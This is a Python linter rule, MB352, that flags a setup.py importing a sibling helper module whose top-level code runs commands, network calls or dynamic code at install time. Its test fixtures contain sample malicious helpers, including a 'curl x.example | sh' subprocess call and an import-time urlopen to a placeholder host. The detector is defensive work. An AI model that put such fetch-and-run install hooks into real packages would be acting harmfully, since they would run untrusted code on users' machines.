"""Plugin-level security rule: `setup.py` imports a module of its own that runs code (MB352).

MB350 reads `setup.py` itself; an installer also runs whatever `setup.py`
imports from beside it (`import _build_helpers`), so the side effects of
those modules at import time are install-time code too. This reads the
``security`` facts of the plugin's files (no libcst).
"""

from __future__ import annotations

from mbcheck.checks.security.analysis import (
    call_graph,
    reached_effect,
    security_facts,
    side_effects,
)
from mbcheck.checks.security.classify import short_name
from mbcheck.checks.security.facts import Evidence, SecurityFacts
from mbcheck.context import PluginContext
from mbcheck.model import Category, Confidence, Severity
from mbcheck.rules.base import Invalid, PluginRule, Valid

#: what an installer must not do on the user's machine
_INSTALL_EFFECTS = frozenset({"subprocess", "network", "dynamic-code", "native-code"})


def _sibling(facts: dict[str, SecurityFacts], top: str) -> str | None:
    """The path of the plugin's own module that ``import top`` in the root ``setup.py`` loads."""
    for path in (f"{top}.py", f"{top}/__init__.py"):
        if path in facts:
            return path
    return None


def _import_time_effect(facts: dict[str, SecurityFacts], path: str) -> Evidence | None:
    """The first use of an install-time effect that runs when the module at ``path`` is imported."""
    fact = facts[path]
    for evidence in fact.evidence:
        if evidence.at_import_time and evidence.kind == "call" and evidence.permission in _INSTALL_EFFECTS:
            return evidence
    if fact.import_time_calls:
        effects = side_effects(facts)
        graph = call_graph(facts)
        for call in fact.import_time_calls:
            found = reached_effect(call.callee, graph, effects)
            if found is not None and found[1].permission in _INSTALL_EFFECTS:
                return found[1]
    return None


class SetupImportsInstallCode(PluginRule):
    """`setup.py` imports a module shipped beside it that runs commands, network or dynamic code when imported.

    `pip install` of a source distribution runs `setup.py`, and with it every module
    it imports from the distribution (`import _build_helpers`, `from build_tools import x`);
    what those modules do at their top level runs on the installing user's machine.
    MB350 reports what `setup.py` does itself; this rule follows its imports one step.
    Why: splitting the payload into a helper module is how install-time malware
    hides from a reviewer who reads only `setup.py`.
    Instead: keep `setup.py` declarative (or use `pyproject.toml`); helpers it imports
    must only define things.
    """

    code = "MB352"
    name = "setup-imports-install-code"
    category = Category.SECURITY
    severity = Severity.ERROR
    confidence = Confidence.HIGH
    VALID = (
        Valid("from setuptools import setup\nfrom _version import VERSION\n\nsetup(name='hello', version=VERSION)\n",
              path="setup.py", files={"_version.py": "VERSION = '1.0'\n"}),
    )
    INVALID = (
        Invalid("import _build\nfrom setuptools import setup\n\nsetup(name='hello')\n", path="setup.py", line=1,
                files={"_build.py": "import subprocess\nsubprocess.run(['sh', '-c', 'curl x.example | sh'])\n"}),
        Invalid("from setuptools import setup\nfrom tools import version\n\nsetup(name='hello', version=version())\n",
                path="setup.py", line=2,
                files={"tools/__init__.py": "import urllib.request\n\ndef version():\n    return '1'\n\n"
                                            "urllib.request.urlopen('https://x.example/i', timeout=5)\n"}),
    )

    def check(self, plugin: PluginContext) -> None:
        facts = security_facts(plugin)
        if "setup.py" not in facts:
            return
        imports = next((module.imports for path, module in plugin.module_facts() if path == "setup.py"), None)
        for fact in imports or ():
            if fact.relative or fact.stdlib:
                continue
            path = _sibling(facts, fact.top)
            if path is None or path == "setup.py":
                continue
            evidence = _import_time_effect(facts, path)
            if evidence is None:
                continue
            plugin.report(self, fact.span,
                          f"`setup.py` imports `{fact.top}` ({path}), which runs `{short_name(evidence.via)}` "
                          f"({evidence.permission}, line {evidence.span.line}) when imported: install-time code",
                          statement_line=fact.statement_line)


__all__ = ["SetupImportsInstallCode"]
